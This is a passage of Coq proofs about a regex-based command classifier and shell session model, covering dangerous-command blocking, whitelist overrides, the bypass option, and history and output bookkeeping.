  pose proof (has_severity_matching command Hs) as Hsm.
  destruct (matching command (dangerousPatterns L)) as [|pd dms] eqn:Hmd;
    [congruence|].
  cbn [length Nat.eqb negb].
  destruct (push_matches_defined Hdm [] []) as (wd & md & Hdeq & _ & Hdr).
  cbn [app] in Hdeq. rewrite Hdeq. cbn [warnings].
  assert (Hmd' : md <> []) by (inversion Hdr; discriminate).
  destruct (matching command (suspiciousPatterns L)) as [|ps sms].
  - cbn [length Nat.eqb negb]. eexists. split; [reflexivity|].
    cbn. repeat split; assumption.
  - cbn [length Nat.eqb negb].
    destruct (push_matches_defined Hsm wd []) as (ws' & ms' & Hseq & _ & _).
    rewrite Hseq. eexists. split; [reflexivity|]. cbn. repeat split; assumption.
Qed.

(** X7.  A command that no dangerous and no suspicious pattern matches is
    safe, with no warning and no blocked reason, whatever the registry
    holds otherwise; in particular an empty registry lets everything
    through. *)
Theorem analyzeCommand_safe (L : CommandPatternLoader) (command : string) :
  existsb (fun p => test (regex p) command) (dangerousPatterns L) = false ->
  existsb (fun p => test (regex p) command) (suspiciousPatterns L) = false ->
  analyzeCommand L command
  = Ok (mkAnalysis command true false false (isWhitelisted L command) [] None [] []).
Proof.
  intros Hd Hs.
  assert (Hnil : forall ps, existsb (fun p => test (regex p) command) ps = false ->
                            match_scan ps command [] = []).
  { intros ps H. rewrite match_scan_filter. simpl. unfold matching.
    induction ps as [|p ps IH]; simpl in *; [reflexivity|].
    apply orb_false_elim in H. destruct H as [-> H]. now apply IH. }
  unfold analyzeCommand, isDangerous, isSuspicious.
  rewrite (Hnil _ Hd), (Hnil _ Hs).
  destruct (isWhitelisted L command); reflexivity.
Qed.

(** X8.  A verdict needs the severity of every pattern it reports: when a
    suspicious pattern without severity (an entry of a configuration
    document that has none) matches the command, [analyzeCommand] throws,
    and [executeCommand] on a connected session rejects with that error
    without blocking, writing or recording anything. *)
Theorem missing_severity_throws (w : World) (command : string) (options : Options) :
  connected (session w) = true ->
  Exists (fun p => severity p = None)
         (matching command (suspiciousPatterns (patternLoader w))) ->
  exists e,
    analyzeCommand (patternLoader w) command = Throw e
    /\ executeCommand command options w = (w, Rejected e).
Proof.
  intros Hc Hex.
  assert (Ha : exists e, analyzeCommand (patternLoader w) command = Throw e).
  { unfold analyzeCommand. rewrite isSuspicious_flag, isSuspicious_matches.
    assert (Hne : negb (Nat.eqb (length (matching command
                   (suspiciousPatterns (patternLoader w)))) 0) = true)
      by (destruct Hex; reflexivity).
    rewrite Hne.
    match goal with
    | |- context [if ?b then ?x else ?y] =>
        destruct (if b then x else y) as [a1|e]; [|eexists; reflexivity]
    end.
    destruct (push_matches_throws Hex (warnings a1) []) as (e & ->).
    eexists. reflexivity. }
  destruct Ha as (e & Ha). exists e. split; [exact Ha|].
  unfold executeCommand. now rewrite Hc, Ha.
Qed.

(** X9.  The pattern tester of the command-line tool predicts the session.
    On a connected session that blocks dangerous commands, for a call
    without options: in its text mode the tester ends with the line
    BLOCKED exactly when the command is rejected as blocked, and the
    command is submitted otherwise; in its JSON mode it prints no such
    line, and the [dangerous.dangerous] field of the object it prints
    tells the same. *)
Theorem testCommand_predicts_block (w : World) (command : string) (a : Analysis)
  (options : CliOptions) :
  connected (session w) = true ->
  blockDangerousCommands (session w) = true ->
  analyzeCommand (patternLoader w) command = Ok a ->
  (truthy (json options) = false ->
   (testCommand (patternLoader w) command options = CliLine CliBlocked ->
    executeCommand command no_options w
    = (emit (EvBlocked command a) w,
       Rejected (ErrorMsg "Command blocked: Potentially destructive command detected")))
   /\ (testCommand (patternLoader w) command options <> CliLine CliBlocked ->
       snd (executeCommand command no_options w) = Pending (length (closures w))
       /\ stdin (fst (executeCommand command no_options w))
          = stdin w ++ [(command ++ newline)%string]))
  /\ (truthy (json options) = true ->
      exists d s wl,
        testCommand (patternLoader w) command options = CliJson d s wl
        /\ (dr_dangerous d = true ->
            executeCommand command no_options w
            = (emit (EvBlocked command a) w,
               Rejected (ErrorMsg
                           "Command blocked: Potentially destructive command detected")))
        /\ (dr_dangerous d = false ->
            snd (executeCommand command no_options w) = Pending (length (closures w))
            /\ stdin (fst (executeCommand command no_options w))
               = stdin w ++ [(command ++ newline)%string])).
Proof.
  intros Hc Hb Ha.
  assert (Hflag : dangerous a = dr_dangerous (isDangerous (patternLoader w) command)
                  /\ blockedReason a = if dangerous a then Some destructive else None).
  { unfold analyzeCommand in Ha.
    destruct (isDangerous_flag (patternLoader w) command) as [_ HW].
    destruct (isDangerous (patternLoader w) command) as [D dm].
    destruct (isSuspicious (patternLoader w) command) as [S sm].
    destruct (isWhitelisted (patternLoader w) command); cbn [dr_dangerous dr_matches
      sr_suspicious sr_matches warnings] in *.
    - rewrite andb_false_r in Ha. rewrite (HW eq_refl).
      destruct S.
      + simpl in Ha; destruct (push_matches sm [] []) as [[ws ms]|e]; [|discriminate].
        simpl in Ha; injection Ha as <-. split; reflexivity.
      + simpl in Ha; injection Ha as <-. split; reflexivity.
    - rewrite andb_true_r in Ha. destruct D.
      + simpl in Ha; destruct (push_matches dm [] []) as [[wd md]|e]; [|discriminate].
        destruct S.
        * cbn [warnings] in Ha.
          simpl in Ha; destruct (push_matches sm wd []) as [[ws ms]|e]; [|discriminate].
          simpl in Ha; injection Ha as <-. split; reflexivity.
        * simpl in Ha; injection Ha as <-. split; reflexivity.
      + destruct S.
        * simpl in Ha; destruct (push_matches sm [] []) as [[ws ms]|e]; [|discriminate].
          simpl in Ha; injection Ha as <-. split; reflexivity.
        * simpl in Ha; injection Ha as <-. split; reflexivity. }
  destruct Hflag as [Hdang Hreason].
  destruct (isDangerous_flag (patternLoader w) command) as [_ HW].
  assert (Hblocked : dangerous a = true ->
            executeCommand command no_options w
            = (emit (EvBlocked command a) w,
               Rejected (ErrorMsg
                           "Command blocked: Potentially destructive command detected"))).
  { intros Hd.
    rewrite (executeCommand_blocked command no_options w Hc Hb eq_refl Ha Hd).
    rewrite Hreason, Hd. reflexivity. }
  assert (Hsubmitted : dangerous a = false ->
            snd (executeCommand command no_options w) = Pending (length (closures w))
            /\ stdin (fst (executeCommand command no_options w))
               = stdin w ++ [(command ++ newline)%string]).
  { intros Hd.
    assert (Hgate : dangerous a && blockDangerousCommands (session w)
                    && negb (truthy (bypassSafety no_options)) = false)
      by (now rewrite Hd).
    rewrite (executeCommand_allowed command no_options w Hc Ha Hgate).
    split; reflexivity. }
  unfold testCommand. split.
  - intros Hjson. rewrite Hjson. split.
    + intros Hcli. apply Hblocked. rewrite Hdang.
      destruct (isWhitelisted (patternLoader w) command); [discriminate|].
      destruct (dr_dangerous (isDangerous (patternLoader w) command));
        [reflexivity|].
      destruct (sr_suspicious (isSuspicious (patternLoader w) command)); discriminate.
    + intros Hcli. apply Hsubmitted. rewrite Hdang.
      destruct (isWhitelisted (patternLoader w) command); [now apply HW|].
      destruct (dr_dangerous (isDangerous (patternLoader w) command));
        [congruence | reflexivity].
  - intros Hjson. rewrite Hjson.
    exists (isDangerous (patternLoader w) command),
           (isSuspicious (patternLoader w) command),
           (isWhitelisted (patternLoader w) command).
    split; [reflexivity|]. rewrite <- Hdang. split; assumption.
Qed.

End ClassifierMore.

(* ------------------------------------------------------------------ *)
(** ** Patterns added at run time take effect *)

Section AddPatternMore.
Context {engine : RegExpEngine}.

Lemma addPattern_valid (type : string) (cfg : PatternConfig) (L : CommandPatternLoader) :
  regexp_valid (cfg_pattern cfg) = true ->
  fst (addPattern type cfg L)
  = if String.eqb type "dangerous" then
      set_dangerousPatterns (dangerousPatterns L ++ [added_pattern L cfg]) L
    else if String.eqb type "suspicious" then
      set_suspiciousPatterns (suspiciousPatterns L ++ [added_pattern L cfg]) L
    else if String.eqb type "whitelisted" then
      set_whitelistedPatterns (whitelistedPatterns L ++ [added_pattern L cfg]) L
    else L.
Proof.
  intros Hok. unfold addPattern, RegExp_new, compile_flags, added_pattern.
  rewrite Hok.
  destruct (String.eqb type "dangerous"); [reflexivity|].
  destruct (String.eqb type "suspicious"); [reflexivity|].
  destruct (String.eqb type "whitelisted"); reflexivity.
Qed.

Lemma matching_snoc (command : string) (ps : list CompiledPattern) (p : CompiledPattern) :
  matching command (ps ++ [p])
  = matching command ps ++ (if test (regex p) command then [p] else []).
Proof. unfold matching. rewrite filter_app. simpl. reflexivity. Qed.

(** X10.  A dangerous pattern added with [addPattern] is in force at once:
    a command it matches, unless whitelisted, is dangerous and the new
    pattern is among its matches; and every command that was dangerous
    before the addition still is. *)
Theorem added_dangerous_pattern_blocks (cfg : PatternConfig) (L : CommandPatternLoader)
  (command : string) :
  regexp_valid (cfg_pattern cfg) = true ->
  isWhitelisted L command = false ->
  test (mkRegExp (cfg_pattern cfg)
                 (if truthy (case_sensitive (settings L)) then "" else "i"))
       command = true ->
  let L' := fst (addPattern "dangerous" cfg L) in
  isDangerousCommand L' command = true
  /\ In (added_pattern L cfg) (dr_matches (isDangerous L' command))
  /\ forall other, isDangerousCommand L other = true ->
                   isDangerousCommand L' other = true.
Proof.
  intros Hok Hw Ht L'.
  assert (HL' : L' = set_dangerousPatterns (dangerousPatterns L ++ [added_pattern L cfg]) L)
    by (unfold L'; now rewrite (addPattern_valid "dangerous" cfg L Hok)).
  assert (Hwl : forall c, isWhitelisted L' c = isWhitelisted L c)
    by (intros c; rewrite HL'; reflexivity).
  assert (Hdp : dangerousPatterns L' = dangerousPatterns L ++ [added_pattern L cfg])
    by (rewrite HL'; reflexivity).
  unfold isDangerousCommand. split; [|split].
  - rewrite isDangerous_not_whitelisted by (now rewrite Hwl).
    cbn [dr_dangerous]. rewrite Hdp, matching_snoc.
    cbn [added_pattern regex]. rewrite Ht, length_app. simpl.
    replace (length (matching command (dangerousPatterns L)) + 1)
      with (S (length (matching command (dangerousPatterns L)))) by lia.
    reflexivity.
  - rewrite isDangerous_not_whitelisted by (now rewrite Hwl).
    cbn [dr_matches]. rewrite Hdp, matching_snoc.
    cbn [added_pattern regex]. rewrite Ht. apply in_or_app. right. now left.
  - intros other Hother.
    destruct (isWhitelisted L other) eqn:Hwo.
    + unfold isDangerous in Hother. rewrite Hwo in Hother. discriminate.
    + rewrite isDangerous_not_whitelisted in Hother by assumption.
      rewrite isDangerous_not_whitelisted by (now rewrite Hwl).
      cbn [dr_dangerous] in *. rewrite Hdp, matching_snoc, length_app.
      destruct (matching other (dangerousPatterns L)); [discriminate|reflexivity].
Qed.

(** X11.  A whitelist pattern added with [addPattern] is in force at once
    when the override is enabled: a command it matches is whitelisted and
    no longer dangerous, whatever dangerous patterns match it, and the
    pattern tester reports it as whitelisted in both of its modes. *)
Theorem added_whitelist_pattern_allows (cfg : PatternConfig) (L : CommandPatternLoader)
  (command : string) :
  regexp_valid (cfg_pattern cfg) = true ->
  truthy (allow_whitelist_override (settings L)) = true ->
  test (mkRegExp (cfg_pattern cfg)
                 (if truthy (case_sensitive (settings L)) then "" else "i"))
       command = true ->
  let L' := fst (addPattern "whitelisted" cfg L) in
  isWhitelisted L' command = true
  /\ isDangerousCommand L' command = false
  /\ forall options,
       testCommand L' command options
       = if truthy (json options)
         then CliJson (isDangerous L' command) (isSuspicious L' command) true
         else CliLine CliWhitelisted.
Proof.
  intros Hok Hallow Ht L'.
  assert (HL' : L' = set_whitelistedPatterns
                       (whitelistedPatterns L ++ [added_pattern L cfg]) L)
    by (unfold L'; now rewrite (addPattern_valid "whitelisted" cfg L Hok)).
  assert (Hw : isWhitelisted L' command = true).
  { rewrite isWhitelisted_spec, HL'. cbn [settings set_whitelistedPatterns
      whitelistedPatterns]. rewrite Hallow, existsb_app. simpl.
    cbn [added_pattern regex]. rewrite Ht, orb_true_r. reflexivity. }
  split; [exact Hw|]. split.
  - unfold isDangerousCommand, isDangerous. now rewrite Hw.
  - intros options. unfold testCommand. now rewrite Hw.
Qed.

End AddPatternMore.

(* ------------------------------------------------------------------ *)
(** ** Further properties of the session *)

Lemma completeCommand_leaves (cid : nat) (w : World) :
  session (completeCommand cid w) = session w
  /\ stdin (completeCommand cid w) = stdin w
  /\ filter is_warning (emitted (completeCommand cid w)) = filter is_warning (emitted w)
  /\ filter is_blocked (emitted (completeCommand cid w)) = filter is_blocked (emitted w).
Proof.
  unfold completeCommand.
  destruct (nth_error (closures w) cid) as [c|]; [|repeat split].
  destruct (commandCompleted c); [repeat split|].
  destruct (idleTimer c); cbn; rewrite !filter_app; simpl; rewrite !app_nil_r;
    repeat split.
Qed.

Lemma fire_leaves (t : Timer) (w : World) :
  session (fire t w) = session w
  /\ stdin (fire t w) = stdin w
  /\ filter is_warning (emitted (fire t w)) = filter is_warning (emitted w)
  /\ filter is_blocked (emitted (fire t w)) = filter is_blocked (emitted w).
Proof.
  unfold fire, run_callback.
  destruct (callback t) as [cid|cid];
    (destruct (nth_error (closures (clearTimeout (timer_id t) w)) cid) as [c|];
     [|repeat split];
     destruct (commandCompleted c); cbn [negb]; [repeat split|];
     apply (completeCommand_leaves cid (clearTimeout (timer_id t) w))).
Qed.

Lemma outputHandler_leaves (cid : nat) (data : string) (w : World) :
  session (outputHandler cid data w) = session w
  /\ stdin (outputHandler cid data w) = stdin w
  /\ filter is_warning (emitted (outputHandler cid data w)) = filter is_warning (emitted w)
  /\ filter is_blocked (emitted (outputHandler cid data w)) = filter is_blocked (emitted w).
Proof.
  destruct (nth_error (closures w) cid) as [c|] eqn:Hc.
  - rewrite (outputHandler_eq _ _ _ Hc). cbn.
    destruct (truthy (streaming (cl_options c))); rewrite ?filter_app; simpl;
      rewrite ?app_nil_r; repeat split.
  - rewrite (outputHandler_missing _ _ _ Hc). repeat split.
Qed.

Lemma deliver_leaves (data : string) (l : list nat) (w : World) :
  session (fold_left (fun w' c => outputHandler c data w') l w) = session w
  /\ stdin (fold_left (fun w' c => outputHandler c data w') l w) = stdin w
  /\ filter is_warning (emitted (fold_left (fun w' c => outputHandler c data w') l w))
     = filter is_warning (emitted w)
  /\ filter is_blocked (emitted (fold_left (fun w' c => outputHandler c data w') l w))
     = filter is_blocked (emitted w).
Proof.
  revert w. induction l as [|lid l IH]; intros w; simpl; [repeat split|].
  destruct (IH (outputHandler lid data w)) as (H1 & H2 & H3 & H4).
  destruct (outputHandler_leaves lid data w) as (G1 & G2 & G3 & G4).
  rewrite H1, H2, H3, H4, G1, G2, G3, G4. repeat split.
Qed.

Section SessionMore.
Context {engine : RegExpEngine}.

(** X12.  With [bypassSafety] set, or with [blockDangerousCommands]
    switched off, a dangerous command is submitted like any other: the
    command and a line feed are written to stdin, a record with
    [executed = true] and the dangerous verdict is appended to the
    history, no ['blocked'] event is emitted, and the call waits for
    completion under a ceiling timer. *)
Theorem dangerous_command_bypassed (command : string) (options : Options)
  (w : World) (a : Analysis) :
  connected (session w) = true ->
  analyzeCommand (patternLoader w) command = Ok a ->
  dangerous a = true ->
  truthy (bypassSafety options) = true \/ blockDangerousCommands (session w) = false ->
  let w' := fst (executeCommand command options w) in
  snd (executeCommand command options w) = Pending (length (closures w))
  /\ stdin w' = stdin w ++ [(command ++ newline)%string]
  /\ commandHistory (session w')
     = commandHistory (session w) ++ [mkCommandRecord command (now w) a true]
  /\ filter is_blocked (emitted w') = filter is_blocked (emitted w)
  /\ pending_max (length (closures w)) w' = true.
Proof.
  intros Hc Ha Hd Hby w'.
  assert (Hgate : dangerous a && blockDangerousCommands (session w)
                  && negb (truthy (bypassSafety options)) = false).
  { rewrite Hd. destruct Hby as [-> | ->]; [apply andb_false_r | reflexivity]. }
  subst w'. rewrite (executeCommand_allowed command options w Hc Ha Hgate).
  cbn [fst snd stdin session commandHistory set_commandHistory emitted].
  split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|]. split.
  - destruct (suspicious a); [|reflexivity].
    cbn. rewrite filter_app. simpl. now rewrite app_nil_r.
  - unfold pending_max. cbn [timers]. rewrite existsb_app. simpl.
    unfold is_max_of at 2. simpl. rewrite Nat.eqb_refl. apply orb_true_r.
Qed.

Lemma step_effects (w : World) (a : Action) :
  (commandHistory (session (step w a)) = commandHistory (session w)
   /\ stdin (step w a) = stdin w
   /\ filter is_warning (emitted (step w a)) = filter is_warning (emitted w))
  \/ (exists r,
        executed r = true
        /\ commandHistory (session (step w a)) = commandHistory (session w) ++ [r]
        /\ stdin (step w a) = stdin w ++ [(rec_command r ++ newline)%string]
        /\ filter is_warning (emitted (step w a))
           = filter is_warning (emitted w)
             ++ (if suspicious (rec_analysis r)
                 then [EvWarning (rec_command r) (rec_analysis r)] else [])).
Proof.
  destruct a as [|command options|data|data|code|ms|id]; simpl.
  - left. cbn. rewrite filter_app. simpl. rewrite app_nil_r. repeat split.
  - destruct (connected (session w)) eqn:Hc;
      [|left; rewrite (executeCommand_disconnected _ _ _ Hc); repeat split].
    destruct (analyzeCommand (patternLoader w) command) as [a|e] eqn:Ha;
      [|left; unfold executeCommand; rewrite Hc, Ha; repeat split].
    destruct (dangerous a && blockDangerousCommands (session w)
              && negb (truthy (bypassSafety options))) eqn:Hgate.
    + left. unfold executeCommand. rewrite Hc, Ha, Hgate. cbn.
      rewrite filter_app. simpl. rewrite app_nil_r. repeat split.
    + right. rewrite (executeCommand_allowed _ _ _ Hc Ha Hgate).
      exists (mkCommandRecord command (now w) a true). cbn.
      split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
      destruct (suspicious a); cbn; [|now rewrite app_nil_r].
      now rewrite filter_app.
  - left. unfold on_stdout.
    match goal with
    | |- context [fold_left ?f ?l ?w0] =>
        destruct (deliver_leaves data l w0) as (H1 & H2 & H3 & _)
    end.
    rewrite H1, H2, H3. cbn. rewrite filter_app. simpl. rewrite app_nil_r.
    repeat split.
  - left. repeat split.
  - left. cbn. rewrite filter_app. simpl. rewrite app_nil_r. repeat split.
  - left. destruct (0 <=? ms)%Z; repeat split.
  - left. destruct (find_timer id w) as [t|]; [|repeat split].
    destruct (due t <=? now w)%Z; [|repeat split].
    destruct (fire_leaves t w) as (H1 & H2 & H3 & _). rewrite H1, H2, H3.
    repeat split.
Qed.

(** X13.  In every state a session can reach, what has been written to the
    child's stdin by [executeCommand] is exactly the commands of the
    history, in order, each followed by a line feed: a command that was
    refused never reaches the transport, and one that was let through is
    written once. *)
Theorem stdin_mirrors_history (L : CommandPatternLoader) (trace : list Action) :
  let w := run trace (new_world L) in
  stdin w = map (fun r => (rec_command r ++ newline)%string) (commandHistory (session w))
  /\ commandCount (session w) = length (stdin w).
Proof.
  intros w.
  assert (H : forall tr w0,
             stdin w0 = map (fun r => (rec_command r ++ newline)%string)
                            (commandHistory (session w0)) ->
             stdin (run tr w0)
             = map (fun r => (rec_command r ++ newline)%string)
                   (commandHistory (session (run tr w0)))).
  { induction tr as [|a tr IH]; intros w0 Hw0; simpl; [assumption|].
    apply IH.
    destruct (step_effects w0 a) as [(Hh & Hs & _) | (r & _ & Hh & Hs & _)];
      rewrite Hh, Hs; [assumption|].
    rewrite map_app, Hw0. reflexivity. }
  specialize (H trace (new_world L) eq_refl). fold w in H.
  split; [exact H|]. unfold commandCount. rewrite H. now rewrite length_map.
Qed.

(** X14.  The counters of [getStatus] in a reachable state: the number of
    suspicious commands in the history is the number of ['warning'] events
    emitted, and the number of blocked commands is 0 however many
    ['blocked'] events were emitted, because refused commands are not
    recorded. *)
Theorem status_counters (L : CommandPatternLoader) (trace : list Action) :
  let w := run trace (new_world L) in
  suspiciousCommands (session w) = length (filter is_warning (emitted w))
  /\ blockedCommands (session w) = 0
  /\ Forall (fun r => executed r = true) (commandHistory (session w)).
Proof.
  intros w.
  assert (H : forall tr w0,
             (length (filter (fun h => suspicious (rec_analysis h))
                             (commandHistory (session w0)))
              = length (filter is_warning (emitted w0))
              /\ Forall (fun r => executed r = true) (commandHistory (session w0))) ->
             length (filter (fun h => suspicious (rec_analysis h))
                            (commandHistory (session (run tr w0))))
             = length (filter is_warning (emitted (run tr w0)))
             /\ Forall (fun r => executed r = true)
                       (commandHistory (session (run tr w0)))).
  { induction tr as [|a tr IH]; intros w0 Hw0; simpl; [assumption|].
    apply IH. destruct Hw0 as [Hn Hall].
    destruct (step_effects w0 a) as [(Hh & _ & He) | (r & Hr & Hh & _ & He)];
      rewrite Hh, He; [split; assumption|].
    split.
    - rewrite filter_app, !length_app, Hn. simpl.
      destruct (suspicious (rec_analysis r)); reflexivity.
    - apply Forall_app. split; [assumption | now constructor]. }
  destruct (H trace (new_world L)) as [Hn Hall]; [split; [reflexivity | constructor]|].
  fold w in Hn, Hall. split; [exact Hn|]. split; [|exact Hall].
  unfold blockedCommands. clear Hn.
  induction Hall as [|r l Hr _ IH]; [reflexivity|].
  simpl. rewrite Hr, andb_false_r. exact IH.
Qed.

End SessionMore.

(* ------------------------------------------------------------------ *)
(** ** Chunks and results *)

Lemma deliver_attached (data : string) (l : list nat) :
  NoDup l ->
  forall (w : World) (cid : nat) (c : Closure),
    In cid l ->
    nth_error (closures w) cid = Some c ->
    exists id,
      nth_error (closures (fold_left (fun w' x => outputHandler x data w') l w)) cid
      = Some (set_idleTimer (Some id) (set_output (output c ++ data)%string c)).
Proof.
  induction 1 as [|lid l Hnin Hnd IH]; intros w cid c Hin Hc; [destruct Hin|].
  simpl. destruct (Nat.eq_dec lid cid) as [->|Hne].
  - destruct (@deliver_frame data cid l (outputHandler cid data w) Hnin) as [Hcl _].
    rewrite Hcl, (outputHandler_eq _ _ _ Hc). cbn [closures].
    exists (next_timer w).
    pose proof (@nth_error_update_nth_eq Closure
                  (fun c' => set_output (output c' ++ data)%string c')
                  (closures w) cid c Hc) as Hin1.
    pose proof (@nth_error_update_nth_eq Closure
                  (set_idleTimer (Some (next_timer w))) _ cid _ Hin1) as Hin2.
    exact Hin2.
  - destruct Hin as [Heq|Hin]; [congruence|].
    apply IH; [assumption|].
    destruct (outputHandler_frame lid data w) as (_ & _ & _ & Hoth).
    rewrite Hoth by congruence. exact Hc.
Qed.

Lemma attached_In (cid : nat) (w : World) :
  attached cid w = true <-> In cid (output_listeners w).
Proof.
  unfold attached. rewrite existsb_exists. split.
  - intros (x & Hx & Heq). apply Nat.eqb_eq in Heq. now subst.
  - intros H. exists cid. split; [assumption | apply Nat.eqb_refl].
Qed.

Section ChunkFacts.
Context {engine : RegExpEngine}.

(** X15.  A chunk of stdout is appended to the output of every command
    whose handler is attached when it arrives, and to no other: two
    commands submitted without waiting for the first to complete both
    accumulate the same chunk, and a completed command accumulates
    nothing. *)
Theorem chunk_reaches_every_attached_command (L : CommandPatternLoader)
  (trace : list Action) (data : string) (cid : nat) (c : Closure) :
  let w := run trace (new_world L) in
  nth_error (closures w) cid = Some c ->
  exists c',
    nth_error (closures (on_stdout data w)) cid = Some c'
    /\ output c' = (if attached cid w then output c ++ data else output c)%string
    /\ commandCompleted c' = commandCompleted c
    /\ (commandCompleted c = true -> c' = c).
Proof.
  intros w Hc.
  assert (Hw : consistent w) by (apply consistent_run, consistent_new_world).
  destruct Hw as (H1 & _ & Hnd & _).
  unfold on_stdout. cbn [output_listeners emit set_emitted set_session].
  destruct (attached cid w) eqn:Hatt.
  - apply attached_In in Hatt.
    match goal with
    | |- context [fold_left ?f ?l ?w0] =>
        destruct (@deliver_attached data l Hnd w0 cid c Hatt Hc) as (id & Hcl)
    end.
    eexists. split; [exact Hcl|]. cbn. split; [reflexivity|]. split; [reflexivity|].
    intros Hf. destruct (H1 cid c Hc) as (_ & Hb & _).
    destruct (Hb Hf) as [Hnin _]. contradiction.
  - assert (Hnin : ~ In cid (output_listeners w)).
    { intros Hin. apply attached_In in Hin. congruence. }
    match goal with
    | |- context [fold_left ?f ?l ?w0] =>
        destruct (@deliver_frame data cid l w0 Hnin) as [Hcl _]
    end.
    exists c. split; [rewrite Hcl; exact Hc|]. repeat split.
Qed.

Lemma step_session (w : World) (a : Action) :
  connected (session (step w a))
  = match a with
    | Ready => true
    | ProcessClose _ => false
    | _ => connected (session w)
    end
  /\ map chunk_key (outputBuffer (session (step w a)))
     = map chunk_key (outputBuffer (session w))
       ++ match a with
          | StdoutData data => [(stdout, data)]
          | StderrData data => [(stderr, data)]
          | _ => []
          end.
Proof.
  destruct a as [|command options|data|data|code|ms|id]; simpl;
    rewrite ?app_nil_r.
  - split; reflexivity.
  - destruct (connected (session w)) eqn:Hc;
      [|rewrite (executeCommand_disconnected _ _ _ Hc), Hc; split; reflexivity].
    destruct (analyzeCommand (patternLoader w) command) as [a|e] eqn:Ha;
      [|unfold executeCommand; rewrite Hc, Ha; simpl; rewrite Hc; split; reflexivity].
    destruct (dangerous a && blockDangerousCommands (session w)
              && negb (truthy (bypassSafety options))) eqn:Hgate.
    + unfold executeCommand. rewrite Hc, Ha, Hgate. simpl. rewrite Hc.
      split; reflexivity.
    + rewrite (executeCommand_allowed _ _ _ Hc Ha Hgate). simpl. rewrite Hc.
      split; reflexivity.
  - unfold on_stdout.
    match goal with
    | |- context [fold_left ?f ?l ?w0] =>
        destruct (deliver_leaves data l w0) as (H1 & _)
    end.
    rewrite H1. cbn. rewrite map_app. split; reflexivity.
  - cbn. rewrite map_app. split; reflexivity.
  - split; reflexivity.
  - destruct (0 <=? ms)%Z; split; reflexivity.
  - destruct (find_timer id w) as [t|]; [|split; reflexivity].
    destruct (due t <=? now w)%Z; [|split; reflexivity].
    destruct (fire_leaves t w) as (H1 & _). rewrite H1. split; reflexivity.
Qed.

(** X16.  The output buffer records every chunk that arrives, stdout and
    stderr alike, in order of arrival and with its stream; nothing else is
    ever added to it and nothing is ever removed from it. *)
Theorem output_buffer_records_every_chunk (trace : list Action) (w : World) :
  map chunk_key (outputBuffer (session (run trace w)))
  = map chunk_key (outputBuffer (session w)) ++ chunks_of trace.
Proof.
  revert w. induction trace as [|a trace IH]; intros w; simpl.
  - now rewrite app_nil_r.
  - rewrite IH. destruct (step_session w a) as [_ Hb]. rewrite Hb, <- app_assoc.
    destruct a; reflexivity.
Qed.

End ChunkFacts.

(* ------------------------------------------------------------------ *)
(** ** Results are faithful to their command *)

Lemma faithful_outputHandler (w : World) (lid : nat) (data : string) :
  results_faithful w ->
  (forall c, nth_error (closures w) lid = Some c -> commandCompleted c = false) ->
  results_faithful (outputHandler lid data w).
Proof.
  intros (K1 & K2) Hlive.
  destruct (nth_error (closures w) lid) as [c0|] eqn:Hc0;
    [|rewrite (outputHandler_missing _ _ _ Hc0); now split].
  rewrite (outputHandler_eq _ _ _ Hc0).
  pose proof (@nth_error_update_nth_eq Closure
                (fun c' => set_output (output c' ++ data)%string c')
                (closures w) lid c0 Hc0) as Hin1.
  pose proof (@nth_error_update_nth_eq Closure
                (set_idleTimer (Some (next_timer w))) _ lid _ Hin1) as Hin2.
  split; cbn [closures session now resolved].
  - intros cid c Hc. destruct (Nat.eq_dec lid cid) as [<-|Hne].
    + rewrite Hin2 in Hc. injection Hc as <-. cbn. now apply (K1 lid c0).
    + rewrite !nth_error_update_nth_neq in Hc by assumption. now apply (K1 cid c).
  - intros cid r Hr. destruct (K2 cid r Hr) as (c & Hc & Hf & Hres & Hd).
    assert (Hne : lid <> cid).
    { intros <-. rewrite Hc0 in Hc. injection Hc as <-.
      rewrite (Hlive c0 eq_refl) in Hf. discriminate. }
    exists c. rewrite !nth_error_update_nth_neq by assumption. repeat split; assumption.
Qed.

Lemma faithful_deliver (data : string) (l : list nat) (w : World) :
  consistent w -> results_faithful w ->
  (forall lid, In lid l -> In lid (output_listeners w)) ->
  results_faithful (fold_left (fun w' cid => outputHandler cid data w') l w).
Proof.
  revert w. induction l as [|lid l IH]; intros w Hw Hk Hsub; simpl; [assumption|].
  assert (Hin : In lid (output_listeners w)) by (apply Hsub; now left).
  apply IH.
  - now apply consistent_outputHandler.
  - apply faithful_outputHandler; [assumption|].
    intros c Hc. destruct Hw as (H1 & _). destruct (H1 lid c Hc) as (_ & Hb & _).
    destruct (commandCompleted c); [|reflexivity].
    destruct (Hb eq_refl) as [Hnin _]. contradiction.
  - intros x Hx. destruct (outputHandler_frame lid data w) as (-> & _).
    apply Hsub. now right.
Qed.

Lemma faithful_completeCommand (w : World) (cid : nat) :
  results_faithful w -> results_faithful (completeCommand cid w).
Proof.
  intros (K1 & K2).
  destruct (nth_error (closures w) cid) as [c|] eqn:Hc;
    [|unfold completeCommand; rewrite Hc; now split].
  destruct (commandCompleted c) eqn:Hf;
    [rewrite (completeCommand_completed _ _ Hc Hf); now split|].
  rewrite (completeCommand_fresh _ _ Hc Hf).
  pose proof (@nth_error_update_nth_eq Closure (set_commandCompleted true)
                (closures w) cid c Hc) as Hin.
  split; cbn [closures session now resolved].
  - intros cid' c' Hc'. destruct (Nat.eq_dec cid cid') as [<-|Hne].
    + rewrite Hin in Hc'. injection Hc' as <-. cbn. now apply (K1 cid c).
    + rewrite nth_error_update_nth_neq in Hc' by assumption. now apply (K1 cid' c').
  - intros cid' r Hr. apply in_app_or in Hr. destruct Hr as [Hr|[Hr|[]]].
    + destruct (K2 cid' r Hr) as (c' & Hc' & Hf' & Hres & Hd).
      assert (Hne : cid <> cid') by (intros <-; congruence).
      exists c'. rewrite nth_error_update_nth_neq by assumption.
      repeat split; assumption.
    + injection Hr as <- <-. exists (set_commandCompleted true c).
      split; [exact Hin|]. cbn. split; [reflexivity|]. split; [reflexivity|].
      destruct (K1 cid c Hc) as [_ Hstart]. lia.
Qed.

Section ResultFacts.
Context {engine : RegExpEngine}.

Lemma faithful_step (w : World) (a : Action) :
  consistent w -> results_faithful w -> results_faithful (step w a).
Proof.
  intros Hw Hk. destruct a as [|command options|data|data|code|ms|id]; simpl.
  - exact Hk.
  - destruct (connected (session w)) eqn:Hc;
      [|now rewrite (executeCommand_disconnected _ _ _ Hc)].
    destruct (analyzeCommand (patternLoader w) command) as [a|e] eqn:Ha;
      [|unfold executeCommand; now rewrite Hc, Ha].
    destruct (dangerous a && blockDangerousCommands (session w)
